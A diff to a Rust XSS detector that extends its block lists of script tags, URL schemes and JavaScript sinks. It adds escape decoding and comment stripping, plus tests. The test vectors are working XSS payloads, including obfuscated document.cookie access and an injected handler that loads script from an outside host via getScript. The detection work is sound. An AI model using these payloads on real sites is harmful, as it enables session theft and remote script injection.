@@ -6,7 +6,7 @@
 use super::{Rule, XSS_LIBINJECTION, XSS_SCRIPT_CONTEXT};
 
 /// Tags that run script or load active content.
-const TAGS: [&[u8]; 14] = [
+const TAGS: [&[u8]; 22] = [
     b"<script",
     b"</script",
     b"<iframe",
@@ -21,10 +21,18 @@ const TAGS: [&[u8]; 14] = [
     b"<style",
     b"<math",
     b"<isindex",
+    b"<form",
+    b"<dialog",
+    b"<input",
+    b"<body",
+    b"<details",
+    b"<marquee",
+    b"<noscript",
+    b"<v:vmlframe",
 ];
 
 /// URL schemes and CSS constructs that run script.
-const ACTIVE: [&[u8]; 9] = [
+const ACTIVE: [&[u8]; 10] = [
     b"javascript:",
     b"vbscript:",
     b"livescript:",
@@ -34,10 +42,12 @@ const ACTIVE: [&[u8]; 9] = [
     b"-moz-binding",
     b"behavior:url(",
     b"@import",
+    // UTF-7 `<`, for the browsers that sniffed it.
+    b"+adw-",
 ];
 
 /// Script sinks and calls typical of payloads.
-const CALLS: [&[u8]; 12] = [
+const CALLS: [&[u8]; 20] = [
     b"alert(",
     b"prompt(",
     b"confirm(",
@@ -50,6 +60,14 @@ const CALLS: [&[u8]; 12] = [
     b"settimeout(",
     b"top[",
     b".innerhtml",
+    b"document[",
+    b"window[",
+    b"self[",
+    b"(document)",
+    b"document.body",
+    b"document.queryselector",
+    b"createelement(",
+    b".getscript(",
 ];
 
 /// DOM event handler attribute names (without `on`).
@@ -105,10 +123,13 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     if libinjectionrs::detect_xss(decoded).is_injection() {
         return vec![XSS_LIBINJECTION];
     }
-    let lower: Vec<u8> = decoded.iter().map(u8::to_ascii_lowercase).collect();
-    let squeezed: Vec<u8> = lower
+    let lower: Vec<u8> = js_unescape(decoded)
         .iter()
-        .copied()
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    // Blanks, control bytes and JS comments are ignored inside script: `document /*x*/ .cookie`.
+    let squeezed: Vec<u8> = strip_js_comments(&lower)
+        .into_iter()
         .filter(|b| !b.is_ascii_whitespace() && *b >= 0x20)
         .collect();
     let contains = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
@@ -121,6 +142,56 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     } else {
         Vec::new()
     }
+}
+
+/// JavaScript escapes of ASCII (`\\u0076`, `\\x61`) decoded, as the script engine would.
+fn js_unescape(text: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(text.len());
+    let mut i = 0;
+    while let Some(&b) = text.get(i) {
+        let hex = |from: usize, n: usize| {
+            text.get(from..from + n)
+                .and_then(|h| std::str::from_utf8(h).ok())
+                .and_then(|h| u32::from_str_radix(h, 16).ok())
+                .and_then(|v| u8::try_from(v).ok())
+                .filter(u8::is_ascii)
+        };
+        let escaped = match (b, text.get(i + 1)) {
+            (b'\\', Some(b'u')) => hex(i + 2, 4).map(|v| (v, 6)),
+            (b'\\', Some(b'x')) => hex(i + 2, 2).map(|v| (v, 4)),
+            _ => None,
+        };
+        match escaped {
+            Some((v, used)) => {
+                out.push(v);
+                i += used;
+            }
+            None => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+/// `/* … */` comments removed.
+fn strip_js_comments(text: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(text.len());
+    let mut i = 0;
+    while let Some(&b) = text.get(i) {
+        if b == b'/' && text.get(i + 1) == Some(&b'*') {
+            let end = text
+                .get(i + 2..)
+                .and_then(|r| r.windows(2).position(|w| w == b"*/"))
+                .map_or(text.len(), |p| i + 2 + p + 2);
+            i = end;
+            continue;
+        }
+        out.push(b);
+        i += 1;
+    }
+    out
 }
 
 /// `on<event>=` starting a word (after a quote, space, slash or the start), as injected into an
@@ -139,7 +210,15 @@ fn has_event_handler(lower: &[u8]) -> bool {
         let name_len = rest.chars().take_while(char::is_ascii_alphabetic).count();
         let name = rest.get(..name_len).unwrap_or_default();
         let after = rest.get(name_len..).unwrap_or_default().trim_start();
-        starts_word && EVENTS.contains(&name) && after.starts_with('=')
+        // A known event, or any `on…` attribute right after a quote or a tag's blank (the
+        // handler list grows with every browser release).
+        let after_quote = text
+            .get(..i)
+            .map(str::trim_end)
+            .is_some_and(|b| b.ends_with(['"', '\'']) || b.is_empty());
+        starts_word
+            && (EVENTS.contains(&name) || (after_quote && name_len >= 3))
+            && after.starts_with('=')
     })
 }
 
@@ -167,6 +246,13 @@ mod tests {
             "data:text/html;base64,PHNjcmlwdD4=",
             "x:expression(alert(1))",
             "<a href=\"&#106;avascript:alert(1)\">",
+            "document /*foo*/ .     cookie",
+            "self[/*foo*/\"alert\"](1)",
+            "\\u0064ocument.cookie",
+            "' onselect=$.getScript('//test.com') '",
+            "  onabcdefgh= =vardata",
+            "%2BADw-script%2BAD4-",
+            "<v:vmlframe src=x>",
         ] {
             assert!(hit(v), "{v}");
         }
